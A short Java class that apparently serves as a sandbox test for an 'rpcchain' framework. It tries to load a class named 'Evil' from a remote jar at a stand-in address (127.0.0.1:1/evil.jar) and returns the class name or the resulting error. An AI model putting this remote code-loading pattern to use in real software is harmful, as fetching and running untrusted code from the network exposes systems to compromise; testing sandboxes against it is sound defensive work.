// Loads code from the net.
import org.rpcchain.*;

public class UrlClassLoader {
    public static NextHop run(State state, Value result) {
        try {
            java.net.URLClassLoader loader = new java.net.URLClassLoader(new java.net.URL[] {new java.net.URL("http://127.0.0.1:1/evil.jar")});
            return NextHop.end(Value.of(loader.loadClass("Evil").getName()));
        } catch (Exception e) {
            return NextHop.end(Value.of(e.toString()));
        }
    }
}
